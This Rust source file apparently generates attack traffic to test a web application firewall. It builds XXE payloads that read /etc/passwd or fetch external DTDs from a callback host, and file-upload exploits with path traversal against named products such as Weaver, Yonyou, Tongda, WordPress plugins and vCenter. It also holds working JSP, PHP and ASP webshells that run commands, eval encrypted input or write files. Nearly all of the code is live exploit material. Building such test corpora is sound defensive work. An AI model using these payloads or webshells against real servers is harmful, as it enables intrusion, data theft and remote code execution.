//! What a server takes in: documents whose entities read files, and files that become programs once they lie in a folder.

use medward_waf::AttackClass;

use super::super::super::attack::{AttackGrammar, request};
use super::super::super::codec;
use super::super::super::encode::Encoding;
use super::super::super::place::Place;
use super::super::super::rng::Rng;
use super::super::super::wire::{Part, Wire};
use super::tools::{Shot, callback, form, in_base64, json, parts, query, sent, xml};

pub(super) const ATTACKS: &[AttackGrammar] = &[
    request("xxe-products", AttackClass::Xxe, 34, entities),
    request("upload-products", AttackClass::Upload, 35, uploads),
    request("upload-without-forms", AttackClass::Upload, 30, raw),
];

/// Autodiscover, Solr, plist, RSS, GPX, SAML, DICOM structured reports and payment callbacks, with a document type inside.
fn entities(rng: &mut Rng) -> Shot {
    let (word, name, away) = (rng.letters(4), rng.letters(3), callback(rng));
    let file = rng.pick(&[
        "file:///etc/passwd",
        "file:///etc/hosts",
        "file:///c:/windows/win.ini",
        "file:///proc/version",
        "file:///etc/issue",
    ]);
    let declared = format!("<!DOCTYPE {word} [<!ELEMENT {word} ANY><!ENTITY {name} SYSTEM \"{file}\">]>");
    let away_only = format!("<!DOCTYPE {word} [<!ENTITY % {name} SYSTEM \"http://{away}/{word}.dtd\">%{name};]>");
    match rng.below(17) {
        0 => xml(
            "/autodiscover/autodiscover.xml",
            format!(
                "<?xml version=\"1.0\" encoding=\"utf-8\"?>{declared}<Autodiscover xmlns=\"http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a\"><Request><EMailAddress>{word}</EMailAddress><AcceptableResponseSchema>&{name};</AcceptableResponseSchema></Request></Autodiscover>"
            ),
            rng,
        ),
        1 => query(
            format!(
                "/solr/{word}/select?q={}&wt=xml&defType=xmlparser",
                codec::percent(format!("{{!xmlparser v='<!DOCTYPE a SYSTEM \"http://{away}/{name}\"><a></a>'}}"))
            ),
            rng,
        ),
        2 => xml(
            "/mdm/checkin",
            format!(
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>{away_only}<plist version=\"1.0\"><dict><key>MessageType</key><string>{word}</string></dict></plist>"
            ),
            rng,
        ),
        3 => in_base64(form(
            "/dana-ws/saml20.ws",
            format!(
                "SAMLRequest={}",
                codec::form(codec::base64(format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>{away_only}<r></r>")))
            ),
            rng,
        )),
        4 => json(
            "/rest/V1/guest-carts/1/estimate-shipping-methods",
            format!(
                "{{\"address\":{{\"totalsCollector\":{{\"collectorList\":{{\"totalCollector\":{{\"sourceData\":{{\"data\":{},\"options\":16}}}}}}}}}}}}",
                codec::json(format!("<?xml version=\"1.0\" ?>{away_only}<{word}>&exfil;</{word}>"))
            ),
            rng,
        ),
        5 => xml(
            "/rest/ofs/ReceiveCCRequestByXml",
            format!(
                "<?xml version=\"1.0\" encoding=\"utf-8\" ?>{declared}<M><syscode>&{name};</syscode><n>{word}</n></M>"
            ),
            rng,
        ),
        6 => form(
            "/hrss/dorado/smartweb2.RPC.d?__rpc=true",
            format!(
                "__viewInstanceId=nc.bs.hrss.rm.ResetPassword~nc.bs.hrss.rm.ResetPasswordViewModel&__xml={}",
                codec::form(format!(
                    "{declared}<rpc transaction=\"10\" method=\"resetPwd\"><vps><p name=\"a\">&{name};</p></vps></rpc>"
                ))
            ),
            rng,
        ),
        7 => parts(
            "/blog/import/rss",
            &[Part::file(
                "feed",
                &format!("{word}.rss"),
                "application/rss+xml",
                format!(
                    "<?xml version=\"1.0\"?>{declared}<rss version=\"2.0\"><channel><title>&{name};</title></channel></rss>"
                ),
            )],
            rng,
        ),
        8 => parts(
            "/track/upload",
            &[Part::file(
                "track",
                &format!("{word}.gpx"),
                "application/gpx+xml",
                format!(
                    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>{declared}<gpx version=\"1.1\"><trk><name>&{name};</name></trk></gpx>"
                ),
            )],
            rng,
        ),
        9 => xml(
            "/geoserver/wfs",
            format!(
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>{declared}<wfs:GetFeature service=\"WFS\" version=\"1.0.0\" xmlns:wfs=\"http://www.opengis.net/wfs\"><wfs:Query typeName=\"a:b\"><PropertyName>&{name};</PropertyName></wfs:Query></wfs:GetFeature>"
            ),
            rng,
        ),
        10 => xml(
            "/api/cda/register",
            format!(
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>{declared}<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><title>&{name};</title><id extension=\"{word}\"/></ClinicalDocument>"
            ),
            rng,
        ),
        11 => xml(
            "/weixin/pay/notify",
            format!(
                "<?xml version=\"1.0\" encoding=\"utf-8\"?>{away_only}<xml><appid>wx{}</appid><return_code>SUCCESS</return_code></xml>",
                rng.hex(16)
            ),
            rng,
        ),
        12 => {
            let wire = Wire::new("PROPFIND", format!("/dav/{word}/")).body("application/xml", format!("<?xml version=\"1.0\"?>{declared}<D:propfind xmlns:D=\"DAV:\"><D:prop><D:displayname>&{name};</D:displayname></D:prop></D:propfind>"));
            (sent(wire.header("Depth", "1"), rng), Place::Xml, Encoding::Plain)
        }
        13 => query(
            format!(
                "/hrss/ELTextFile.load.d?src={}",
                codec::percent_all(format!("data:text/xml,{declared}<a>&{name};</a>").as_bytes())
            ),
            rng,
        ),
        14 => xml(
            "/flex2gateway/http",
            format!(
                "<?xml version=\"1.0\"?>{declared}<amfx ver=\"3\" xmlns=\"http://www.macromedia.com/2005/amfx\"><body><object type=\"flex.messaging.messages.CommandMessage\"><traits><string>body</string></traits><string>&{name};</string></object></body></amfx>"
            ),
            rng,
        ),
        15 => xml(
            "/xmlpserver/ReportTemplateService.xls",
            format!("<!DOCTYPE soap:envelope PUBLIC \"-//B/A/EN\" \"http://{away}/{word}\"><a/>"),
            rng,
        ),
        _ => parts(
            "/import/excel",
            &[Part::file(
                "file",
                &format!("{word}.xml"),
                "application/vnd.ms-excel",
                format!(
                    "<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?>{away_only}<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"><Worksheet><Table/></Worksheet></Workbook>"
                ),
            )],
            rng,
        ),
    }
}

/// A small program for the server, in the language that its products are written in.
fn jsp(rng: &mut Rng) -> String {
    let word = rng.letters(5);
    match rng.below(7) {
        0 => format!(
            "<%out.println(\"{word}\");new java.io.File(application.getRealPath(request.getServletPath())).delete();%>"
        ),
        1 => format!(
            "<% java.io.InputStream in = Runtime.getRuntime().exec(request.getParameter(\"{word}\")).getInputStream(); int a=-1; byte[] b=new byte[2048]; while((a=in.read(b))!=-1){{ out.println(new String(b,0,a)); }} %>"
        ),
        2 => format!(
            "<%! String xc=\"3c6e0b8a9c15224a\"; class X extends ClassLoader{{public X(ClassLoader z){{super(z);}}public Class Q(byte[] cb){{return super.defineClass(cb, 0, cb.length);}} }}%><%session.setAttribute(\"payload\",new X(this.getClass().getClassLoader()).Q(java.util.Base64.getDecoder().decode(request.getParameter(\"{word}\"))));%>"
        ),
        3 => format!(
            "<%@page import=\"java.util.*,javax.crypto.*,javax.crypto.spec.*\"%><%if(request.getMethod().equals(\"POST\")){{String k=\"e45e329feb5d925b\";session.putValue(\"u\",k);Cipher c=Cipher.getInstance(\"AES\");c.init(2,new SecretKeySpec(k.getBytes(),\"AES\"));//{word}\n}}%>"
        ),
        4 => format!(
            "<%\\u0052\\u0075\\u006e\\u0074\\u0069\\u006d\\u0065.getRuntime().exec(request.getParameter(\"{word}\"));%>"
        ),
        5 => format!("${{Runtime.getRuntime().exec(param.{word})}}"),
        _ => format!(
            "<%@ page language=\"java\" %><%=\"{word}\"+(41*271)%><% if(request.getParameter(\"f\")!=null)(new java.io.FileOutputStream(application.getRealPath(\"/\")+request.getParameter(\"f\"))).write(request.getParameter(\"t\").getBytes()); %>"
        ),
    }
}

fn php(rng: &mut Rng) -> String {
    let word = rng.letters(5);
    match rng.below(6) {
        0 => format!("<?php echo md5('{word}');unlink(__FILE__);?>"),
        1 => format!(
            "<?php $a=$_POST['{word}'];$b='ev'.'al';@array_filter(array($a),create_function('$x',\"return eval(\\$x);\"));"
        ),
        2 => format!(
            "<?php @set_time_limit(0);function E($D,$K){{for($i=0;$i<strlen($D);$i++){{$D[$i]=$D[$i]^$K[$i+1&15];}}return $D;}}$pass='{word}';$payload=E(base64_decode($_POST[$pass]),'3c6e0b8a9c15224a');@eval($payload);"
        ),
        3 => format!("<?=`$_GET[{word}]`?>"),
        4 => format!("<?php\n$O='{word}';($_=@$_GET[2]).@$_($_POST[1]);\n?>"),
        _ => format!("<?php echo shell_exec($_REQUEST[\"{word}\"].\" 2>&1\"); die();"),
    }
}

/// Weaver, Yonyou, Tongda, Hikvision, Dahua, Ruijie, Wanhu, Landray, ShowDoc, WordPress, Struts, vCenter.
fn uploads(rng: &mut Rng) -> Shot {
    let word = rng.letters(6);
    let (java, script) = (jsp(rng), php(rng));
    match rng.below(18) {
        0 => parts(
            "/page/exportImport/uploadOperation.jsp",
            &[Part::file("file", &format!("{word}.jsp"), "application/octet-stream", java)],
            rng,
        ),
        1 => parts(
            "/uapim/upload/grouptemplet?groupid=nc&fileType=jsp&maxSize=999",
            &[Part::file("upload", &format!("{word}.jpg"), "image/jpeg", java)],
            rng,
        ),
        2 => parts(
            "/ispirit/im/upload.php",
            &[
                Part::field("UPLOAD_MODE", "2"),
                Part::field("P", "123"),
                Part::field("DEST_UID", "1"),
                Part::file("ATTACHMENT", &format!("{word}.jpg"), "image/jpeg", script),
            ],
            rng,
        ),
        3 => parts(
            "/center/api/files;.js",
            &[Part::file(
                "file",
                &format!("../../../../../bin/tomcat/apache-tomcat/webapps/clusterMgr/{word}.jsp"),
                "application/octet-stream",
                java,
            )],
            rng,
        ),
        4 => parts(
            "/svm/api/external/report",
            &[Part::file(
                "file",
                &format!("../../../tomcat85linux64.1/webapps/els/static/{word}.jsp"),
                "application/zip",
                java,
            )],
            rng,
        ),
        5 => parts(
            "/emap/devicePoint_addImgIco?hasSubsystem=true",
            &[Part::file("upload", &format!("{word}.jsp"), "application/octet-stream", java)],
            rng,
        ),
        6 => parts(
            format!("/ddi/server/fileupload.php?uploadDir=../../321&name={word}.php"),
            &[Part::file("file", &format!("{word}.php"), "image/jpeg", script)],
            rng,
        ),
        7 => parts(
            format!("/defaultroot/upload/fileUpload.controller?name={word}.jsp"),
            &[Part::file("file", &format!("{word}.jsp"), "application/octet-stream", java)],
            rng,
        ),
        8 => parts(
            "/index.php?s=/home/page/uploadImg",
            &[Part::file("editormd-image-file", &format!("{word}.<>php"), "text/plain", script)],
            rng,
        ),
        9 => parts(
            "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
            &[
                Part::field("reqid", rng.hex(13)),
                Part::field("cmd", "upload"),
                Part::field("target", "l1_Lw"),
                Part::field("mtime[]", rng.digits(10)),
                Part::file("upload[]", &format!("{word}.php"), "application/x-php", script),
            ],
            rng,
        ),
        10 => parts(
            "/upload.action",
            &[
                Part::file("Upload", "1.txt", "text/plain", java),
                Part::field("uploadFileName", format!("../{word}.jsp")),
            ],
            rng,
        ),
        11 => parts(
            "/ui/vropspluginui/rest/services/uploadova",
            &[Part::file(
                "uploadFile",
                &format!("{word}.tar"),
                "application/octet-stream",
                tar(
                    &format!(
                        "../../usr/lib/vmware-vsphere-ui/server/work/deployer/s/global/42/0/h5ngc.war/resources/{word}.jsp"
                    ),
                    &java,
                ),
            )],
            rng,
        ),
        12 => parts(
            "/C6/Jhsoft.Web.users/GetTreeDate.aspx/upload.ashx",
            &[Part::file(
                "file",
                &format!("{word}.asp"),
                "image/png",
                format!("<%response.write(\"{word}\")%><%eval request(\"1\")%>"),
            )],
            rng,
        ),
        13 => parts(
            "/kindeditor/php/upload_json.php?dir=file",
            &[Part::file("imgFile", &format!("{word}.php\u{a0}"), "image/gif", format!("GIF89a{script}"))],
            rng,
        ),
        14 => parts(
            "/wp-admin/admin-ajax.php?action=uploadFontIcon",
            &[Part::file(
                "file",
                &format!("{word}.zip"),
                "application/zip",
                zip(&format!("{word}/{word}.php"), &script),
            )],
            rng,
        ),
        15 => parts(
            "/seeyon/fileUpload.do?method=processUpload",
            &[
                Part::field("OPTION", "SAVEASIMG"),
                Part::file(
                    "FILENAME",
                    &format!("..\\..\\..\\ApacheJetspeed\\webapps\\seeyon\\{word}.jspx"),
                    "text/html",
                    java,
                ),
            ],
            rng,
        ),
        16 => parts(
            "/mobile_portal/api/pns/message/attachment/download",
            &[Part::file("f", &format!("{word}.Jsp "), "image/jpeg", java)],
            rng,
        ),
        _ => parts(
            "/hms/patient/avatar",
            &[
                Part::field("pid", word.clone()),
                Part::file(
                    "avatar",
                    &format!("{word}.jpg.php"),
                    "image/jpeg",
                    [b"\xff\xd8\xff\xe1\0\x18Exif\0\0".as_slice(), script.as_bytes()].concat(),
                ),
            ],
            rng,
        ),
    }
}

/// The same by PUT, by MOVE, in JSON as base64, in a parameter that is written to a file.
fn raw(rng: &mut Rng) -> Shot {
    let (word, n) = (rng.letters(6), rng.digits(4));
    let (java, script) = (jsp(rng), php(rng));
    match rng.below(14) {
        0 => (sent(Wire::new("PUT", format!("/{word}.jsp{}", rng.pick(&["/", "%20", "::$DATA"]))).body("application/octet-stream", java), rng), Place::Body, Encoding::Plain),
        1 => (sent(Wire::new("PUT", format!("/fileserver/{word}.txt")).body("", java), rng), Place::Body, Encoding::Plain),
        2 => (sent(Wire::new("MOVE", format!("/fileserver/{word}.txt")).header("Destination", format!("file:///opt/activemq/webapps/api/{word}.jsp")), rng), Place::Header, Encoding::Plain),
        3 => in_base64(json("/api/attach/saveBase64", format!("{{\"fileName\":\"{word}.aspx\",\"fileData\":\"{}\"}}", codec::base64("<%@ Page Language=\"C#\"%><%System.Diagnostics.Process.Start(Request[\"c\"]);%>")), rng)),
        4 => in_base64(form("/servlet/uploadAttachmentServlet", format!("fileName=../../{word}.jsp&content={}", codec::form(codec::base64(java))), rng)),
        5 => (sent(Wire::post(format!("/upload/index.php?file={word}.php&mode=raw"), "application/octet-stream", script), rng), Place::Body, Encoding::Plain),
        6 => in_base64(json("/mobile/upload", format!("{{\"img\":\"data:image/php;base64,{}\",\"name\":\"{word}\"}}", codec::base64(script)), rng)),
        7 => form("/e/admin/template/save", format!("file={word}.php&content={}", codec::form(script)), rng),
        8 => in_base64(xml("/uapws/service/nc.uap.oba.update.IUpdateService", format!("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body><getResult><string>{}</string><name>../../{word}.jsp</name></getResult></soapenv:Body></soapenv:Envelope>", codec::base64(java)), rng)),
        9 => json("/solr/admin/configs?action=UPLOAD", format!("{{\"name\":\"{word}\",\"filename\":\"../../webapp/{word}.jsp\",\"content\":{}}}", codec::json(java)), rng),
        10 => (sent(Wire::post(format!("/servlet/FileReceiveServlet?n={n}"), "", [b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16\x60\xd1\x03\x00\x02F\x00\x0aloadFactorI\x00\x09thresholdxp?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10\x00\x00\x00\x02t\x00\x09FILE_NAMEt\x00".as_slice(), &[word.len() as u8 + 4], word.as_bytes(), b".jspt\x00\x10TARGET_FILE_PATHt\x00\x10./webapps/nc_webx", java.as_bytes()].concat()), rng), Place::Body, Encoding::Plain),
        11 => (sent(Wire::new("PUT", format!("/webdav/{word}.asp;.jpg")).body("image/jpeg", format!("<%eval request(\"{word}\")%>")), rng), Place::Body, Encoding::Plain),
        12 => parts("/weaver/weaver.common.Ctrl/.css?arg0=com.cloudstore.api.service.Service_CheckApp&arg1=validateApp", &[Part::file("file1", &format!("{word}.zip"), "application/zip", zip(&format!("../../../{word}.jsp"), &java))], rng),
        _ => form("/general/data_center/utils/upload.php?action=upload&filetype=nmsl&filename=../../../../x.php", format!("{}={}", word, codec::form(script)), rng),
    }
}

/// A zip archive of one stored file (APPNOTE 4.3), without checksums: who unpacks it may complain afterwards.
fn zip(name: &str, content: &str) -> Vec<u8> {
    let size = (content.len() as u32).to_le_bytes();
    let length = (name.len() as u16).to_le_bytes();
    let rest = [b"\0\0\0\0".as_slice(), &size, &size, &length, b"\0\0"].concat();
    let local =
        [b"PK\x03\x04\x0a\0\0\0\0\0\0\0\x21\x5b".as_slice(), &rest, name.as_bytes(), content.as_bytes()].concat();
    let central = [b"PK\x01\x02\x14\0\x0a\0\0\0\0\0\0\0\x21\x5b".as_slice(), &rest, &[0; 14], name.as_bytes()].concat();
    let end = [
        b"PK\x05\x06\0\0\0\0\x01\0\x01\0".as_slice(),
        &(central.len() as u32).to_le_bytes(),
        &(local.len() as u32).to_le_bytes(),
        b"\0\0",
    ]
    .concat();
    [local, central, end].concat()
}

/// One file in the old tar format: name, mode, owner, size and checksum in octal, then the content in blocks of 512.
fn tar(name: &str, content: &str) -> Vec<u8> {
    let mut head = vec![0; 512];
    let short = &name.as_bytes()[..name.len().min(99)];
    head[..short.len()].copy_from_slice(short);
    head[100..124].copy_from_slice(b"0000644\x000000000\x000000000\x00");
    head[124..136].copy_from_slice(format!("{:011o}\0", content.len()).as_bytes());
    head[136..148].copy_from_slice(b"14700000000\0");
    head[148..156].copy_from_slice(b"        ");
    let sum: u32 = head.iter().map(|byte| u32::from(*byte)).sum();
    head[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    let filling = vec![0; 512 - content.len() % 512 + 1024];
    [head, content.as_bytes().to_vec(), filling].concat()
}
